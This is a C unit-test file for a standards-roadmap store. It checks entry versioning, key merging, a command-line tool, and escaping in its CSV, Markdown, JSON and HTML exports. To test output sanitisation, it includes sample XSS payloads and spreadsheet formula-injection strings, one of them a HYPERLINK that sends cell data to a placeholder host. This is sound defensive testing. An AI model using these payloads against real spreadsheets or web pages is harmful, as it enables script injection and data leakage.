/* test_roadmap_store.c: roadmap entries and versions in a temporary store, and the exports built on them. */
/* SPDX-License-Identifier: Apache-2.0 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <cmocka.h>

#include "ctl.h"
#include "roadmap_export.h"
#include "roadmap_store.h"
#include "sdo.h"
#include "store_int.h"

struct fx {
	char dir[64];
	char *path;
	struct store *st;
	const struct sdo_dir *sdos;
};

static int
setup(void **state)
{
	struct fx *f = xcalloc(1, sizeof(*f));
	char *err = NULL;

	snprintf(f->dir, sizeof(f->dir), "/tmp/test_roadmap_store.XXXXXX");
	if (!mkdtemp(f->dir))
		return -1;
	f->path = xasprintf("%s/store.db", f->dir);
	f->st = store_open(f->path, 0, &err);
	if (!f->st) {
		fprintf(stderr, "store_open: %s\n", err);
		free(err);
		return -1;
	}
	f->sdos = sdo_dir_builtin();
	*state = f;
	return 0;
}

static int
teardown(void **state)
{
	struct fx *f = *state;
	char *p;

	store_close(f->st);
	unlink(f->path);
	p = xasprintf("%s-wal", f->path);
	unlink(p);
	free(p);
	p = xasprintf("%s-shm", f->path);
	unlink(p);
	free(p);
	rmdir(f->dir);
	free(f->path);
	free(f);
	return 0;
}

/* A filed document with just what the roadmap reads back: its Message-ID and subject. */
static long long
add_doc(struct store *st, const char *msgid, const char *subject, long long received)
{
	sqlite3_stmt *s;
	long long id;

	assert_int_equal(sqlite3_prepare_v2(st->db,
	                     "INSERT INTO document (dedupe_key, message_id, sha256, subject, received, kind, direction)"
	                     " VALUES (?1, ?1, 'x', ?2, ?3, 'roadmap_input', 'incoming')",
	                     -1, &s, NULL),
	    SQLITE_OK);
	sqlite3_bind_text(s, 1, msgid, -1, SQLITE_STATIC);
	sqlite3_bind_text(s, 2, subject, -1, SQLITE_STATIC);
	sqlite3_bind_int64(s, 3, received);
	assert_int_equal(sqlite3_step(s), SQLITE_DONE);
	sqlite3_finalize(s);
	id = sqlite3_last_insert_rowid(st->db);
	return id;
}

static long long
count(struct store *st, const char *sql)
{
	sqlite3_stmt *s;
	long long n = -1;

	assert_int_equal(sqlite3_prepare_v2(st->db, sql, -1, &s, NULL), SQLITE_OK);
	if (sqlite3_step(s) == SQLITE_ROW)
		n = sqlite3_column_int64(s, 0);
	sqlite3_finalize(s);
	return n;
}

static void
rows_add(struct rm_rows *r, const char *const cells[RM_NCOLS])
{
	if (r->n == r->cap) {
		r->cap = r->cap ? r->cap * 2 : 8;
		r->v = xrealloc(r->v, r->cap * sizeof(*r->v));
	}
	for (int c = 0; c < RM_NCOLS; c++)
		r->v[r->n].f[c] = xstrdup(cells[c]);
	r->n++;
}

/* Files rows (NULL-terminated cell arrays) as one document in one transaction. */
static void
file(struct fx *f, long long doc, long long when, const char *const (*rows)[RM_NCOLS], size_t n, struct strv *warn)
{
	struct rm_rows r = {0};

	for (size_t i = 0; i < n; i++)
		rows_add(&r, rows[i]);
	assert_int_equal(store_begin(f->st), 0);
	assert_int_equal(store_roadmap_file(f->st, doc, when, &r, f->sdos, warn), 0);
	assert_int_equal(store_commit(f->st), 0);
	rm_rows_free(&r);
}

static const char *const sc24[][RM_NCOLS] = {
    {"ISO/IEC JTC 1/SC 24", "ISO/IEC 18026", "Standard", "Spatial Reference Model", "Published", "Enabling technology",
        "Provides a geospatial reference framework for 3D/VR integration."},
    {"ISO/IEC JTC 1/SC 24", "ISO/IEC 19775-1", "Standard",
        "Extensible 3D (X3D) - Part 1: Architecture and base components", "Published", "Enabling technology",
        "Scene graph architecture for interactive 3D content."},
    {"ISO/IEC JTC 1/SC 24", "ISO/IEC 18038", "Standard", "Sensor representation in mixed and augmented reality",
        "Published", "Enabling technology, Interoperability", "Represents physical sensors in MAR scenes."},
};

static const char *const sc24_v2[][RM_NCOLS] = {
    {"ISO/IEC JTC1 SC24", "ISO/IEC 19775-1", "Standard",
        "Extensible 3D (X3D) - Part 1: Architecture and base components", "Under revision", "Enabling technology",
        "Scene graph architecture for interactive 3D content."},
    {"ISO/IEC JTC 1/SC 24", "ISO/IEC  18038", "Standard", "Sensor representation in mixed and augmented reality",
        "Published", "Enabling technology, Interoperability", "Represents physical sensors in MAR scenes."},
};

static const struct rm_entry *
find(const struct rm_entries *e, const char *ref)
{
	for (size_t i = 0; i < e->n; i++)
		if (strcmp(e->v[i].row.f[RM_REF], ref) == 0)
			return &e->v[i];
	return NULL;
}

static void
test_versions(void **state)
{
	struct fx *f = *state;
	struct rm_entries e = {0};
	struct rm_changes ch = {0};
	struct strv warn = {0};
	long long d1 = add_doc(f->st, "<sc24-rm.20260203@bsigroup.example>", "SC 24 contribution", 1000);
	long long d2 = add_doc(f->st, "<sc24-rm.20260302@bsigroup.example>", "SC 24 update", 2000);
	long long d3 = add_doc(f->st, "<sc24-rm.20260401@bsigroup.example>", "SC 24 again", 3000);
	const struct rm_entry *x;

	file(f, d1, 1000, sc24, 3, &warn);
	/* An alias of the body and an extra space in a reference are the same entries. */
	file(f, d2, 2000, sc24_v2, 2, &warn);
	assert_int_equal(count(f->st, "SELECT count(*) FROM roadmap_entry"), 3);
	assert_int_equal(count(f->st, "SELECT count(*) FROM roadmap_version"), 5);
	assert_int_equal(count(f->st,
	                     "SELECT count(*) FROM roadmap_version v JOIN roadmap_entry e ON e.id = v.entry_id"
	                     " WHERE e.ref_key = 'iso/iec19775-1'"),
	    2);
	assert_int_equal(count(f->st, "SELECT count(*) FROM roadmap_version WHERE changed = 'sdo,status'"), 1);
	assert_int_equal(count(f->st, "SELECT count(*) FROM roadmap_version WHERE changed = 'reference'"), 1);

	/* An identical resubmission adds no version, only the confirmation. */
	file(f, d3, 3000, sc24_v2, 1, &warn);
	assert_int_equal(count(f->st, "SELECT count(*) FROM roadmap_version"), 5);
	assert_int_equal(count(f->st, "SELECT confirmed FROM roadmap_entry WHERE ref_key = 'iso/iec19775-1'"), 3000);
	assert_int_equal(warn.n, 0);

	assert_int_equal(roadmap_current(f->st, &e), 0);
	assert_int_equal(e.n, 3);
	assert_non_null(x = find(&e, "ISO/IEC 19775-1"));
	assert_string_equal(x->row.f[RM_STATUS], "Under revision");
	assert_string_equal(x->body, "ISO/IEC JTC 1/SC 24");
	assert_int_equal(x->version, 2);
	assert_int_equal(x->updated, 2000);
	assert_int_equal(x->created, 1000);
	assert_int_equal(x->confirmed, 3000);
	assert_int_equal(x->doc_id, d2);
	assert_string_equal(x->message_id, "<sc24-rm.20260302@bsigroup.example>");
	assert_string_equal(x->subject, "SC 24 update");
	assert_string_equal(x->group, "Enabling Technology");
	assert_non_null(x = find(&e, "ISO/IEC 18026"));
	assert_int_equal(x->version, 1);
	assert_int_equal(x->doc_id, d1);
	rm_entries_free(&e);

	/* Since 1500: the status change, with old and new values; since 0, everything is new. */
	assert_int_equal(roadmap_changes(f->st, 1500, &ch), 0);
	assert_int_equal(ch.n, 2);
	for (size_t i = 0; i < ch.n; i++) {
		assert_false(ch.v[i].is_new);
		if (strcmp(ch.v[i].cur.row.f[RM_REF], "ISO/IEC 19775-1") == 0) {
			assert_int_equal(ch.v[i].changed, (1u << RM_STATUS) | (1u << RM_SDO));
			assert_string_equal(ch.v[i].old.f[RM_STATUS], "Published");
			assert_string_equal(ch.v[i].cur.row.f[RM_STATUS], "Under revision");
		} else
			assert_int_equal(ch.v[i].changed, 1u << RM_REF);
	}
	rm_changes_free(&ch);
	assert_int_equal(roadmap_changes(f->st, 0, &ch), 0);
	assert_int_equal(ch.n, 3);
	for (size_t i = 0; i < ch.n; i++)
		assert_true(ch.v[i].is_new);
	rm_changes_free(&ch);
	assert_int_equal(roadmap_changes(f->st, 2500, &ch), 0);
	assert_int_equal(ch.n, 0);
	rm_changes_free(&ch);
	rm_changes_free(NULL);
	rm_entries_free(NULL);
	strv_free(&warn);
}

/* Without a reference the title keys the entry; the canonical body merges the bodies' spellings. */
static void
test_keys(void **state)
{
	static const char *const rows[][RM_NCOLS] = {
	    {"MSF", "", "Guide", "Interoperability  primer", "Planned", "General", ""},
	    {"MSF", "", "Guide", "Interoperability Primer", "Draft", "General", ""},
	    {"MSF", "", "Guide", "Governance", "Planned", "General", ""},
	    {"3GPP TSG SA WG1", "TS 22.156", "TS", "Mobile Metaverse Services", "Published", "Application/Service", ""},
	    {"3GPP SA1", "TS 22.156", "TS", "Mobile Metaverse Services", "Published", "Application/Service", ""},
	    {"3GPP SA4", "TS 22.156", "TS", "Not the same body", "Published", "Application/Service", ""},
	};
	struct fx *f = *state;
	struct rm_entries e = {0};
	long long d = add_doc(f->st, "<k@example.org>", "keys", 10);

	file(f, d, 10, rows, 6, NULL);
	assert_int_equal(count(f->st, "SELECT count(*) FROM roadmap_entry"), 4);
	assert_int_equal(count(f->st, "SELECT count(*) FROM roadmap_version"), 6);
	assert_int_equal(count(f->st, "SELECT count(*) FROM roadmap_entry WHERE body = '3GPP SA1'"), 1);
	assert_int_equal(roadmap_current(f->st, &e), 0);
	assert_int_equal(e.n, 4);
	/* Sorted by group (General before Application/Service), then body, then reference. */
	assert_string_equal(e.v[0].group, "General");
	assert_string_equal(e.v[0].row.f[RM_TITLE], "Governance");
	assert_string_equal(e.v[1].row.f[RM_STATUS], "Draft");
	assert_string_equal(e.v[2].body, "3GPP SA1");
	assert_string_equal(e.v[3].body, "3GPP SA4");
	rm_entries_free(&e);
}

/* Hostile text from mail through every export: quoted, escaped, never markup. */
static void
test_exports(void **state)
{
	static const char *const rows[][RM_NCOLS] = {
	    {"Evil \"Org\"", "X-1, rev 2", "<b>Type</b>", "<script>alert(1)</script> | pipe", "Draft", "General",
	        "line one\nline two & 'more'"},
	};
	struct fx *f = *state;
	struct rm_entries e = {0};
	struct buf b = {0};
	long long d = add_doc(f->st, "<evil@example.org>", "<img src=x onerror=alert(1)>", 86400 * 20000);

	file(f, d, 86400 * 20000, rows, 1, NULL);
	assert_int_equal(roadmap_current(f->st, &e), 0);
	assert_int_equal(e.n, 1);

	roadmap_csv(&b, &e);
	assert_string_equal(b.s,
	    "SDO / Org.,Reference,Type,Title,Status,Category,Summary,Last updated,Source document,Document number\r\n"
	    "\"Evil \"\"Org\"\"\",\"X-1, rev 2\",<b>Type</b>,<script>alert(1)</script> | pipe,Draft,General,"
	    "\"line one\nline two & 'more'\",2024-10-04,<evil@example.org>,\r\n");
	buf_reset(&b);

	roadmap_md(&b, &e);
	assert_non_null(strstr(b.s, "| \\<script\\>alert(1)\\</script\\> \\| pipe |"));
	assert_non_null(strstr(b.s, "| line one line two & 'more' |"));
	assert_int_equal(strchr(b.s, '\n') - b.s,
	    strlen("| SDO / Org. | Reference | Type | Title | Status | Category |"
	           " Summary | Last updated | Source document | Document number |"));
	buf_reset(&b);

	roadmap_jsonl(&b, &e);
	assert_non_null(strstr(b.s, "{\"sdo\": \"Evil \\\"Org\\\"\", \"reference\": \"X-1, rev 2\""));
	assert_non_null(strstr(b.s, "\"summary\": \"line one\\nline two & 'more'\""));
	assert_non_null(strstr(b.s, "\"updated\": \"2024-10-04T00:00:00Z\", \"document_id\": "));
	assert_int_equal(b.s[b.len - 1], '\n');
	buf_reset(&b);

	roadmap_html(&b, &e, NULL, 0);
	assert_null(strstr(b.s, "<script>alert"));
	assert_null(strstr(b.s, "<img"));
	assert_null(strstr(b.s, "<b>"));
	assert_non_null(strstr(b.s, "&lt;script&gt;alert(1)&lt;/script&gt; | pipe"));
	assert_non_null(strstr(b.s, "title=\"&lt;img src=x onerror=alert(1)&gt;\""));
	assert_non_null(strstr(b.s, "line two &amp; &#39;more&#39;"));
	assert_non_null(strstr(b.s, "<tbody data-group=\"General\">"));
	assert_null(strstr(b.s, "http://"));
	assert_null(strstr(b.s, "https://"));
	buf_free(&b);
	rm_entries_free(&e);
}

/* Cells that a spreadsheet would run as formulas are text in the CSV export, and only there. */
static void
test_csv_formulas(void **state)
{
	static const char *const rows[][RM_NCOLS] = {
	    {"ITU-T SG17", "=HYPERLINK(\"http://x.example/?\"&A1,\"update\")", "+cmd", "@SUM(A1:A9)",
	        "-cmd|' /C calc'!A0", "General", "\tX.sec"},
	    {"ITU-T SG17", "-2+3+cmd|' /C calc'!A0", " @SUM(A1)", "Title with = inside", "Published", "-5", "\rY.sec"},
	};
	struct fx *f = *state;
	struct rm_entries e = {0};
	struct buf b = {0};
	long long d = add_doc(f->st, "<formula@example.org>", "Roadmap", 86400 * 20000);

	file(f, d, 86400 * 20000, rows, 2, NULL);
	assert_int_equal(roadmap_current(f->st, &e), 0);
	assert_int_equal(e.n, 2);

	roadmap_csv(&b, &e);
	assert_non_null(strstr(b.s,
	    "\r\nITU-T SG17,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"update\"\")\",'+cmd,"
	    "'@SUM(A1:A9),'-cmd|' /C calc'!A0,General,'\tX.sec,"));
	/* A leading '-' is a formula even before a digit (OWASP): "-2+3+cmd|…" would run. */
	assert_non_null(strstr(
	    b.s, "\r\nITU-T SG17,'-2+3+cmd|' /C calc'!A0,' @SUM(A1),Title with = inside,Published,'-5,\"'\rY.sec\","));
	buf_reset(&b);

	/* The other exports show the cells as written. */
	roadmap_md(&b, &e);
	assert_non_null(strstr(b.s, "| +cmd |"));
	assert_null(strstr(b.s, "'+cmd"));
	buf_reset(&b);
	roadmap_jsonl(&b, &e);
	assert_non_null(strstr(b.s, "\"type\": \"+cmd\""));
	buf_free(&b);
	rm_entries_free(&e);
}

/* liaisonctl roadmap: exit statuses (2 for usage, 0 for --help), -o, and the formats reaching the file. */
static void
test_ctl(void **state)
{
	static const struct {
		int rc;
		const char *argv[8];
	} runs[] = {
	    {2, {"roadmap", NULL}},
	    {2, {"roadmap", "frobnicate", NULL}},
	    {2, {"roadmap", "export", NULL}},
	    {2, {"roadmap", "export", "--format", "pdf", NULL}},
	    {2, {"roadmap", "export", "--format", NULL}},
	    {2, {"roadmap", "export", "--format", "csv", "--bogus", NULL}},
	    {2, {"roadmap", "changes", NULL}},
	    {2, {"roadmap", "changes", "--since", "last tuesday", NULL}},
	    {2, {"roadmap", "export", "--format", "csv", "extra", NULL}},
	    {2, {"roadmap", "--json", "export", NULL}},
	    {0, {"roadmap", "--help", NULL}},
	    {0, {"roadmap", "export", "--help", NULL}},
	    {0, {"roadmap", "changes", "-h", NULL}},
	    {0, {"roadmap", "export", "--format=json", "-o", "OUT", NULL}},
	    {0, {"roadmap", "export", "--format", "md", "--output=OUT", NULL}},
	    {0, {"roadmap", "export", "-f", "html", "-o", "OUT", NULL}},
	    {0, {"roadmap", "export", "--format", "csv", "-o", "OUT", NULL}},
	    {0, {"roadmap", "changes", "--since", "1970-01-01T00:00:00Z", "--json", NULL}},
	    {1, {"roadmap", "export", "--format", "csv", "-o", "/nonexistent/dir/x.csv", NULL}},
	};
	struct fx *f = *state;
	struct ctl_ctx ctx = {NULL, f->st, f->sdos, NULL, 0};
	char *out = xasprintf("%s/out", f->dir), *data = NULL, *err = NULL;
	long long d = add_doc(f->st, "<c@example.org>", "ctl", 100);
	size_t len;

	file(f, d, 100, sc24, 3, NULL);
	for (size_t i = 0; i < sizeof(runs) / sizeof(runs[0]); i++) {
		char *argv[8] = {NULL};
		int argc = 0;
		/* "OUT" in an argument stands for the output file's path. */
		for (; runs[i].argv[argc]; argc++) {
			const char *a = runs[i].argv[argc], *o = strstr(a, "OUT");
			argv[argc] = o ? xasprintf("%.*s%s", (int)(o - a), a, out) : xstrdup(a);
		}
		print_message("run %zu: %s %s\n", i, argc > 1 ? argv[1] : "", argc > 3 ? argv[3] : "");
		assert_int_equal(ctl_roadmap(&ctx, argc, argv), runs[i].rc);
		for (int k = 0; k < argc; k++)
			free(argv[k]);
	}
	/* The last successful export to OUT was the CSV: three rows and the header, CRLF. */
	assert_int_equal(file_read(out, 1 << 20, &data, &len, &err), 0);
	assert_true(strncmp(data, "SDO / Org.,Reference,", 21) == 0);
	size_t crlf = 0;
	for (const char *p = data; (p = strstr(p, "\r\n")); p += 2)
		crlf++;
	assert_int_equal(crlf, 4);
	free(data);
	unlink(out);
	free(out);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test_setup_teardown(test_versions, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_keys, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_exports, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_csv_formulas, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_ctl, setup, teardown),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
